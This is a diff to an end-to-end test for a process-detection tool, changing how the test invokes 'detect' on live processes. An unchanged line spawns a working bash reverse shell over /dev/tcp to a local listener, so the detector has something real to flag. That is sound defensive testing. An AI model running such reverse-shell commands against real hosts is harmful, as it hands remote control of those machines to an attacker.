@@ -1,5 +1,5 @@
-// End to end: real suspicious processes on this host, a real snapshot (`scan --output`), and the built-in
-// pack run by `detect`: each process must be reported by the right rule at the right severity.
+// End to end: real suspicious processes on this host and `daemoneye detect` on a live snapshot with the
+// built-in pack: each process must be reported by the right rule at the right severity.
 import {type ChildProcess, spawn} from 'node:child_process';
 import {copyFileSync, unlinkSync} from 'node:fs';
 import {createServer, type Server, type Socket} from 'node:net';
@@ -65,10 +65,7 @@ beforeAll(async () => {
   reverseShellPid = pidOf(await start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]));
   await connected;
 
-  const snapshot = join(dir, 'live.db');
-  const scan = await runCli(['scan', '--output', snapshot, '--format', 'ndjson'], {env, timeoutMs: 120_000});
-  expect(scan.code, scan.stderr).toBe(0);
-  const detect = await runCli(['detect', '--input', snapshot, '--format', 'json'], {env, timeoutMs: 120_000});
+  const detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 120_000});
   expect(detect.code, detect.stderr).toBe(0);
   alerts = (JSON.parse(detect.stdout) as {alerts: Alert[]}).alerts;
 }, 240_000);
